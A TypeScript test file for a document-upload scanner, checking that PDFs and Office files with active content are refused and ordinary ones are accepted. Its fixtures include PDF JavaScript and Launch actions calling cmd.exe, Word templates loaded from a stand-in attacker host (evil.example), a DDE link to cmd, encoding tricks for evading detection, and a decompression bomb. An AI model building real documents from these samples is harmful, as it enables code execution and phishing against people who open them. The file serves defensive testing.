/** Documents with active content are refused, however it is encoded; ordinary ones are accepted. */
import { randomBytes } from 'node:crypto';
import { buffer } from 'node:stream/consumers';
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { describe, expect, test } from 'vitest';
import { flate, objectStream, pdfOf, relationships } from '../../../../tests/support/active-documents.ts';
import { office } from '../../../../tests/support/files.ts';
import { countedFile } from '../../../../tests/support/hostile-pictures.ts';
import { examine } from './examine.ts';
import { readBudget } from './metered.ts';

async function outcomeOf(bytes: Buffer): Promise<string> {
  const { file, read } = countedFile(bytes);
  const outcome = await examine(file, 'a file').then(
    ({ mediaType }) => mediaType,
    (error) => `${error.code}: ${error.message}`,
  );
  expect(read.bytes).toBeLessThanOrEqual(readBudget(bytes.length).bytes);
  return outcome;
}

const action = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const refusedScript = /^UNSUPPORTED_MEDIA_TYPE: This PDF contains JavaScript/;
const refusedLaunch = /^UNSUPPORTED_MEDIA_TYPE: This PDF can start other programs/;
const uncheckable = /^UNSUPPORTED_MEDIA_TYPE: This PDF is (built in a way|protected)/;

describe('a PDF with JavaScript or Launch', () => {
  test.each<[string, Buffer, RegExp]>([
    ['as an action when it is opened', pdfOf([], `/OpenAction${action}`), refusedScript],
    ['as an object of its own', pdfOf([action], '/OpenAction 10 0 R'), refusedScript],
    ['in the names of the document', pdfOf([], '/Names<</JavaScript 10 0 R>>'), refusedScript],
    ['with escapes', pdfOf(['<</S/J#61vaScript/J#53(x)>>']), refusedScript],
    ['with every letter escaped', pdfOf(['<</S/#4a#61#76#61#53#63#72#69#70#74/JS(x)>>']), refusedScript],
    ['with the type in another object', pdfOf(['<</S 11 0 R/JS(x)>>', '/JavaScript ']), refusedScript],
    ['in a rendition', pdfOf(['<</S/Rendition/OP 0/JS(x)>>']), refusedScript],
    ['in a compressed object stream', pdfOf([objectStream(action)]), refusedScript],
    ['in an object stream with escapes', pdfOf([objectStream('<</S/Java#53cript/JS(x)>>')]), refusedScript],
    [
      'in an object stream that has no type',
      pdfOf([{ ...(flate(`20 0 ${action}`, '/N 1/First 5') as object) } as never]),
      refusedScript,
    ],
    [
      'in an object stream that says it is a page',
      pdfOf([flate(`20 0 <</S /JavaScript /JS(x)>>`, '/Type/XObject')]),
      refusedScript,
    ],
    [
      'in a large object stream',
      pdfOf([objectStream(`${randomBytes(90_000).toString('hex')} ${action}`)]),
      refusedScript,
    ],
    ['after a stream that is none', pdfOf(['(a stream\n of words)', objectStream(action)]), refusedScript],
    [
      'in an XFA form',
      pdfOf(
        [flate('<template><script contentType="application/x-javascript">x</script></template>')],
        '/AcroForm<</XFA 10 0 R>>',
      ),
      refusedScript,
    ],
    ['Launch', pdfOf(['<</S/Launch/F(cmd.exe)>>']), refusedLaunch],
    ['Launch with escapes in an object stream', pdfOf([objectStream('<</S/L#61unch/F(cmd.exe)>>')]), refusedLaunch],
    [
      'in an object stream with two filters',
      pdfOf([
        {
          dictionary: '/Type/ObjStm/N 1/First 5/Filter[/ASCIIHexDecode/FlateDecode]',
          stream: Buffer.from(deflateSync(`20 0 ${action}`).toString('hex')),
        },
      ]),
      uncheckable,
    ],
    [
      'in an object stream with a predictor',
      pdfOf([objectStream('20 0 <<>>', '/DecodeParms<</Predictor 12/Columns 4>>')]),
      uncheckable,
    ],
    [
      'in an object stream that is damaged',
      pdfOf([
        {
          dictionary: '/Type/ObjStm/N 1/First 5/Filter/FlateDecode',
          stream: deflateSync(randomBytes(400)).subarray(0, 200),
        },
      ]),
      uncheckable,
    ],
    [
      'in an object stream with its filter elsewhere',
      pdfOf([{ dictionary: '/Type/ObjStm/N 1/First 5/Filter 12 0 R', stream: deflateSync(`20 0 ${action}`) }]),
      uncheckable,
    ],
    [
      'in an object stream that is encrypted and hides what it is',
      pdfOf(
        [
          { dictionary: '/N 1/First 5%endobj\n/Filter/FlateDecode', stream: randomBytes(90) },
          '<</Type/XRef/W[1 2 1]>>',
        ],
        '',
        '/Encrypt 12 0 R',
      ),
      uncheckable,
    ],
    ['in an object stream that is encrypted', pdfOf([objectStream('20 0 <<>>')], '', '/Encrypt 12 0 R'), uncheckable],
  ])('%s', async (_what, bytes, refusal) => {
    expect(await outcomeOf(bytes)).toMatch(refusal);
  });

  test('split between two chunks of the file, at every position', async () => {
    const whole = pdfOf([action]);
    const at = whole.indexOf('/JavaScript');
    for (let shift = 0; shift < 14; shift += 1) {
      const filler = Buffer.alloc(65_536 - at + shift - 2, ' ');
      expect(await outcomeOf(Buffer.concat([whole.subarray(0, 9), filler, whole.subarray(9)]))).toMatch(refusedScript);
    }
  });

  test('a stream that decompresses endlessly is refused', { tags: ['long'] }, async () => {
    const bomb = Array.from({ length: 11 }, () => flate(Buffer.alloc(50 * 1024 * 1024)));
    expect(await outcomeOf(pdfOf(bomb))).toMatch(/UNSUPPORTED_MEDIA_TYPE: .*too long to check/);
  });
});

describe('an ordinary PDF', () => {
  test('with text about JavaScript and a product launch, outlines, and pictures', async () => {
    const document = new PDFDocument({ compress: true });
    document.outline.addItem('Chapter one');
    document.text('Enable JavaScript / Launch the app. '.repeat(500));
    document.addPage().text('/Launch and /JavaScript as words');
    document.end();
    expect(await outcomeOf(await buffer(document))).toBe('application/pdf');
  });

  test('with compressed objects, links, page attachments, and a picture that would unpack to a gigabyte', async () => {
    const picture = {
      dictionary: '/Subtype/Image/Width 9/Height 9/Filter/FlateDecode',
      stream: deflateSync(Buffer.alloc(60 * 1024 * 1024)),
    };
    const objects = [
      objectStream('<</Type/Annot/A<</S/URI/URI(https://example.com)>>>>'),
      '<</Type/Outlines/First 14 0 R/Last 14 0 R/Count 1>>',
      flate('BT (Marketing/Launch plan) Tj ET'),
      ...Array.from({ length: 20 }, () => picture),
      ...Array.from({ length: 400 }, (_, index) => flate(randomBytes(index * 40))),
    ];
    expect(await outcomeOf(pdfOf(objects, '/OpenAction[3 0 R/Fit]'))).toBe('application/pdf');
  });

  test('protected, with unencrypted objects', async () => {
    expect(await outcomeOf(pdfOf([flate('BT ET')], '', '/Encrypt 12 0 R'))).toBe('application/pdf');
  });
});

const word = (entries: Record<string, Buffer>) => office('docx', entries);
const template = (target: string) => ({ 'word/_rels/settings.xml.rels': relationships('attachedTemplate', target) });
const external = /^UNSUPPORTED_MEDIA_TYPE: This file loads something from elsewhere/;
const object = /^UNSUPPORTED_MEDIA_TYPE: This file contains an object from another program/;
const damaged = /^UNSUPPORTED_MEDIA_TYPE: This Word or Excel file is damaged/;

describe('a Word or Excel file', () => {
  test.each<[string, () => Promise<Buffer>, RegExp]>([
    ['with a template on the web', () => word(template('https://evil.example/a.dotm')), external],
    ['with a template on a share', () => word(template('\\\\evil.example\\share\\a.dotm')), external],
    ['with a template on a share, as an address', () => word(template('file://evil.example/share/a.dotm')), external],
    [
      'with the mode in entities',
      () => word({ 'word/_rels/settings.xml.rels': relationships('attachedTemplate', 'a.dotm', '&#69;xternal') }),
      external,
    ],
    [
      'in UTF-16',
      () =>
        word({
          'word/_rels/settings.xml.rels': Buffer.from(
            `\ufeff${relationships('attachedTemplate', 'https://evil.example').toString().replace('UTF-8', 'UTF-16')}`,
            'utf16le',
          ),
        }),
      external,
    ],
    [
      'with a prefix',
      () =>
        word({
          'word/_rels/settings.xml.rels': Buffer.from(
            relationships('attachedTemplate', 'https://evil.example')
              .toString()
              .replace('<Relationship ', '<r:Relationship '),
          ),
        }),
      external,
    ],
    [
      'with a picture on the web',
      () => word({ 'word/_rels/document.xml.rels': relationships('image', 'http://evil.example/a.png') }),
      external,
    ],
    [
      'with another document on the web',
      () => word({ 'word/_rels/document.xml.rels': relationships('subDocument', 'http://evil.example/a.docx') }),
      external,
    ],
    [
      'with a target elsewhere and no mode',
      () => word({ 'word/_rels/document.xml.rels': relationships('image', 'http://evil.example/a.png', '') }),
      external,
    ],
    [
      'with its part in capitals',
      () => word({ 'WORD/_RELS/SETTINGS.XML.RELS': relationships('attachedTemplate', 'https://evil.example/a.dotm') }),
      external,
    ],
    [
      'with OLE by its relationship',
      () => word({ 'word/_rels/document.xml.rels': relationships('oleObject', 'x/y.dat', '') }),
      object,
    ],
    [
      'with OLE elsewhere',
      () => word({ 'word/_rels/document.xml.rels': relationships('oleObject', 'C:\\a.xls') }),
      object,
    ],
    ['with OLE by its part', () => word({ 'word/embeddings/oleObject1.bin': Buffer.from('x') }), object],
    ['with ActiveX', () => word({ 'word/activeX/activeX1.xml': Buffer.from('<x/>') }), object],
    [
      'with OLE in a workbook',
      () =>
        office('xlsx', { 'xl/worksheets/_rels/sheet1.xml.rels': relationships('oleObject', '../embeddings/a', '') }),
      object,
    ],
    [
      'with a link to another program in a workbook',
      () =>
        office('xlsx', {
          'xl/externalLinks/externalLink1.xml': Buffer.from('<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
        }),
      object,
    ],
    ['with a document with macros inside', () => word({ 'word/embeddings/a.docm': Buffer.from('x') }), /macros/],
    [
      'with entities of its own',
      () =>
        word({ 'word/_rels/settings.xml.rels': Buffer.from('<!DOCTYPE x [<!ENTITY e "External">]><Relationships/>') }),
      damaged,
    ],
    [
      'with relationships that are not whole',
      () => word({ 'word/_rels/settings.xml.rels': Buffer.from('<Relationships><Relationship') }),
      damaged,
    ],
    [
      'in an encoding of its own',
      () =>
        word({ 'word/_rels/settings.xml.rels': Buffer.from('<?xml version="1.0" encoding="UTF-7"?><Relationships/>') }),
      damaged,
    ],
  ])('%s', async (_what, bytes, refusal) => {
    expect(await outcomeOf(await bytes())).toMatch(refusal);
  });

  test('with links, charts, and a company template on its author’s own disk is accepted', async () => {
    const letter = await word({
      ...template('file:///C:\\Users\\Morgan\\Templates\\Letter.dotx'),
      'word/_rels/document.xml.rels': relationships('hyperlink', 'https://example.com/?a=1&amp;b=2'),
      'word/charts/_rels/chart1.xml.rels': relationships('package', '../embeddings/Microsoft_Excel_Sheet1.xlsx', ''),
      'word/embeddings/Microsoft_Excel_Sheet1.xlsx': await office('xlsx'),
      '_rels/.rels': relationships('officeDocument', '/word/document.xml', ''),
    });
    expect(await outcomeOf(letter)).toMatch(/wordprocessingml/);
    const book = await office('xlsx', {
      'xl/externalLinks/_rels/externalLink1.xml.rels': relationships(
        'externalLinkPath',
        'https://example.com/rates.xlsx',
      ),
      'xl/printerSettings/printerSettings1.bin': Buffer.from('x'),
    });
    expect(await outcomeOf(book)).toMatch(/spreadsheetml/);
  });
});
